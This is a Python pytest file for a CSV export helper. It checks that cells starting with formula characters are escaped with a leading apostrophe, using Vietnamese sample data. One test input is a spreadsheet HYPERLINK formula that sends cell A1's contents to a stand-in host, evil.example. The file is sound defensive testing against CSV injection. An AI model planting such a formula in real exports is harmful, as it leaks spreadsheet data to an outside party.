"""core.exports: the one way every CSV export writes its cells."""

from __future__ import annotations

import csv
import io

import pytest

from core.exports import csv_response, safe_cell


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
        "+84 912 345 678",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_starts_become_text(typed):
    assert safe_cell(typed) == "'" + typed


@pytest.mark.parametrize("value", ["Nguyễn Văn A", "", " =1", "a=b", 42, -5, None, 3.5])
def test_everything_else_is_unchanged(value):
    assert safe_cell(value) == value


def test_csv_response_escapes_header_and_rows_and_keeps_excel_happy():
    response = csv_response("x.csv", ["STT", "=cột"], [[1, "=1+1"], [2, "Ý kiến"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [["STT", "'=cột"], ["1", "'=1+1"], ["2", "Ý kiến"]]
